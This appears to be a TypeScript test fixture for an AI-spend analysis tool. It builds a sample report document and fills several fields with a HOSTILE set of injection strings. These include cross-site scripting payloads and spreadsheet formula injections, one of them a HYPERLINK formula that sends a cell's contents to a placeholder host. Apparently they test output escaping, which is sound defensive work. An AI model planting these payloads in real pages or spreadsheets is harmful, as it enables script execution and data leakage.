import type { AnalysisDocument, WorkloadEntry } from '../../../shared/document/analysis-document.ts'
import { plan } from './small-plan.ts'

export const NO_TOKENS = {
  input: null,
  cacheRead: null,
  cacheWrite: null,
  output: null,
  reasoning: null,
}

/** Names that a page or a spreadsheet would run, as somebody might have called a project. */
export const HOSTILE = {
  script: '<script>alert(1)</script>',
  image: '"><img src=x onerror=alert(1)>',
  formula: '=HYPERLINK("http://example.invalid/?x="&A1,"Open")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(A1:A9)',
  lines: 'first\r\n=second',
} as const

const COVERED = {
  coverage: { modelKnown: 1, tokensKnown: 1, priceKnown: 1, rateKnown: 1, ownerKnown: 1 },
}

export function workload(id: string, changes: Partial<WorkloadEntry> = {}): WorkloadEntry {
  return {
    id,
    provider: 'openai',
    project: `project ${id}`,
    projectId: null,
    apiKey: null,
    user: null,
    model: 'gpt-5.5',
    spend: { USD: '100' },
    spendKind: 'billed',
    tokens: { input: 1000, cacheRead: 200, cacheWrite: 0, output: 300, reasoning: null },
    requests: 10,
    paidTier: 'frontier',
    neededTier: 'routine',
    task: 'support',
    confidence: 0.9,
    guard: null,
    reasons: [{ signal: 'project-name', evidence: 'support', points: 3 }],
    source: 'rule',
    sources: [{ file: 'cost.csv', rows: 3 }],
    ...changes,
  }
}

/** Three workloads at two providers in two months, with one plan: small enough to be added up by hand. */
export function smallDocument(changes: Partial<AnalysisDocument> = {}): AnalysisDocument {
  return {
    schema: 'ai-spend-analysis/1',
    app: { version: '0.1.0' },
    priceBook: { id: 'built-in', asOf: '2026-11-10', sha256: 'ab'.repeat(32) },
    reportingCurrency: 'USD',
    contracts: [],
    files: [
      {
        name: 'cost.csv',
        sha256: 'cd'.repeat(32),
        bytes: 1234,
        format: 'openai.cost',
        status: 'read',
        period: { start: '2026-08-01', end: '2026-10-01' },
        rows: {
          read: 12,
          used: 9,
          skipped: 2,
          rejected: 1,
          skippedBy: { tax: 1, 'blank-bucket': 1 },
          rejectedBy: { 'not-a-number': 1 },
        },
        money: { billed: { USD: '300.01' }, list: {}, included: {} },
        tokens: null,
        requests: null,
        skippedMoney: { tax: { USD: '12' } },
        warnings: [
          {
            code: 'cached-exceeds-input',
            count: 1,
            lines: [7],
            message: 'Cached input is above input.',
          },
        ],
      },
    ],
    rejectedRows: [
      {
        file: 'cost.csv',
        line: 5,
        column: 'amount_value',
        value: HOSTILE.script,
        code: 'not-a-number',
        expected: 'an amount such as 1234.56',
        fix: 'Correct the cell.',
      },
    ],
    joins: [],
    overlaps: [],
    reconciliation: [
      {
        provider: 'openai',
        files: { USD: '212' },
        split: { used: { USD: '200' }, tax: { USD: '12' } },
        invoice: { USD: '212.5' },
        difference: { USD: '-0.5' },
        tolerance: { USD: '1' },
        status: 'within-tolerance',
        compared: { USD: '212' },
        references: [],
        explained: {},
        months: [],
        warnings: [],
      },
    ],
    totals: {
      billed: { USD: '290.01' },
      list: {},
      computed: { USD: '10' },
      included: {},
      elsewhere: {},
      spend: { USD: '300.01' },
      period: { start: '2026-08-01', end: '2026-10-01' },
      tokens: { ...NO_TOKENS, input: 2000, output: 600 },
      requests: 20,
      coverage: {
        modelKnown: 0.99,
        tokensKnown: 0.98,
        priceKnown: 1,
        rateKnown: 1,
        ownerKnown: null,
      },
    },
    rateGaps: [],
    tierQuestions: [],
    chargeback: {
      total: { USD: '300.01' },
      allocated: { USD: '0' },
      personOnly: { USD: '0' },
      ownerless: { USD: '300.01' },
      entries: [],
      unallocated: [],
      unallocatedWorkloads: [],
      unusedRows: [],
    },
    seats: null,
    unpriced: [
      {
        provider: 'openai',
        model: HOSTILE.image,
        tokens: { ...NO_TOKENS, input: 5 },
        requests: 1,
        why: 'No price.',
      },
    ],
    byProvider: [
      {
        ...COVERED,
        provider: 'openai',
        spend: { USD: '200.005' },
        tokens: NO_TOKENS,
        requests: 20,
      },
      {
        ...COVERED,
        provider: 'anthropic',
        spend: { USD: '100.005' },
        tokens: NO_TOKENS,
        requests: null,
      },
    ],
    byModel: [
      {
        provider: 'openai',
        model: 'gpt-5.5',
        paidTier: 'frontier',
        spend: { USD: '200.005' },
        tokens: NO_TOKENS,
        requests: 20,
      },
      {
        provider: 'anthropic',
        model: null,
        paidTier: null,
        spend: { USD: '100.005' },
        tokens: NO_TOKENS,
        requests: null,
      },
    ],
    byMonth: [
      {
        month: '2026-08',
        coveredDays: 31,
        days: 31,
        spend: { USD: '100.005' },
        tokens: NO_TOKENS,
        byProvider: { openai: { USD: '60.003' }, anthropic: { USD: '40.002' } },
      },
      {
        month: '2026-09',
        coveredDays: 30,
        days: 30,
        spend: { USD: '200.005' },
        tokens: NO_TOKENS,
        byProvider: { openai: { USD: '140.002' }, anthropic: { USD: '60.003' } },
      },
    ],
    workloads: [
      workload('w1', {
        spend: { USD: '200.005' },
        project: HOSTILE.script,
        apiKey: HOSTILE.plus,
        user: HOSTILE.at,
      }),
      workload('w2', {
        provider: 'anthropic',
        spend: { USD: '100.015' },
        project: HOSTILE.formula,
        apiKey: HOSTILE.lines,
        neededTier: null,
        confidence: null,
        reasons: [],
      }),
      workload('w3', {
        project: HOSTILE.minus,
        model: null,
        paidTier: null,
        neededTier: null,
        spend: { USD: '-0.01' },
      }),
    ],
    tiers: {
      frontier: { spend: {} },
      mid: { spend: {} },
      routine: { spend: { USD: '200.005' } },
      unclassified: { spend: { USD: '100.005' } },
    },
    plans: [plan()],
    ...changes,
  }
}
